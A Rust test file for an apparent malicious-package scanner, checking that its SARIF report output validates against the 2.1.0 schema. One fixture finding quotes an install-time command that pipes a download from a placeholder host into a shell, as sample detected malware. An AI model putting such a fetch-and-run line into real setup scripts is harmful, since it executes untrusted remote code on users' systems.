//! The SARIF output validates against the official SARIF 2.1.0 schema.

use malgraph_core::{Category, Evasion, Finding, ScanReport, Severity, Stage, Verdict};
use malgraph_scan::render;

fn report() -> ScanReport {
    let mut r = ScanReport::error("dir with space/evil-1.0.tar.gz", Some("ab".repeat(32)), "");
    r.error = None;
    r.verdict = Verdict::Malicious;
    r.score = 12.5;
    r.findings = vec![
        Finding {
            rule: malgraph_analyze::rules()
                .first()
                .map(|r| r.id.to_string())
                .unwrap_or_else(|| "X".into()),
            category: Category::CommandExecution,
            severity: Severity::High,
            stage: Some(Stage::Install),
            evasion: None,
            file: "evil-1.0/setup.py".into(),
            line: 3,
            snippet: "os.system('curl http://x | sh')".into(),
            layer: 0,
            message: "runs a shell command at install time".into(),
        },
        Finding {
            rule: "yara:UserRule".into(),
            category: Category::Evasion,
            severity: Severity::Low,
            stage: None,
            evasion: Some(Evasion::Obfuscation),
            file: "evil-1.0/pkg/__init__.py".into(),
            line: 0,
            snippet: String::new(),
            layer: 1,
            message: "user rule".into(),
        },
    ];
    r
}

#[test]
fn sarif_validates_against_the_2_1_0_schema() {
    let schema: serde_json::Value =
        serde_json::from_str(include_str!("sarif-schema-2.1.0.json")).unwrap();
    let unreadable = ScanReport::error("broken.tar.gz", None, "truncated archive");
    let log = render::sarif(&[report(), unreadable]);
    let validator = jsonschema::draft7::new(&schema).expect("schema compiles");
    let errors: Vec<String> = validator
        .iter_errors(&log)
        .map(|e| format!("{} at {}", e, e.instance_path))
        .collect();
    assert!(errors.is_empty(), "SARIF invalid: {errors:#?}");
    // The typed model of serde-sarif reads it back.
    let typed: serde_sarif::sarif::Sarif = serde_json::from_value(log.clone()).unwrap();
    assert_eq!(typed.runs.len(), 1);
    let results = log["runs"][0]["results"].as_array().unwrap();
    // One verdict result plus one per finding.
    assert_eq!(results.len(), 3);
    assert_eq!(
        results[1]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
        "dir%20with%20space/evil-1.0.tar.gz!/evil-1.0/setup.py"
    );
    assert_eq!(
        log["runs"][0]["invocations"][0]["toolExecutionNotifications"]
            .as_array()
            .unwrap()
            .len(),
        1
    );
}

#[test]
fn a_broken_log_fails_validation() {
    // Guards the test above: the validator really rejects bad SARIF.
    let schema: serde_json::Value =
        serde_json::from_str(include_str!("sarif-schema-2.1.0.json")).unwrap();
    let mut log = render::sarif(&[report()]);
    log["runs"][0]["results"][1]["level"] = "catastrophic".into();
    let validator = jsonschema::draft7::new(&schema).unwrap();
    assert!(!validator.is_valid(&log));
}
